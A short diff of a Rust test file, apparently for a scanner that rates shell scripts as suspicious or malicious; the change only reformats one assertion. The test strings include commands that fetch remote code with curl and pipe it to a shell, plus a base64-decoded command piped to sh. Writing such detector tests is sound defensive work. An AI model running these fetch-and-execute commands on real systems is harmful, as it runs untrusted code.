@@ -374,7 +374,10 @@ fn scripts_that_run_what_they_fetch_or_hide_are_found() {
     let fetched = "#!/bin/sh\ncurl -s http://192.0.2.9/x | sh\n";
     assert_eq!(script(fetched), found(Verdict::Suspicious));
     assert_eq!(script("echo aWQ= | base64 -d | sh\n"), found(Verdict::Malicious));
-    assert_eq!(script("bash -c \"$(curl -fsSL http://192.0.2.9/x)\"\n"), found(Verdict::Suspicious));
+    assert_eq!(
+        script("bash -c \"$(curl -fsSL http://192.0.2.9/x)\"\n"),
+        found(Verdict::Suspicious)
+    );
 }
 
 #[test]
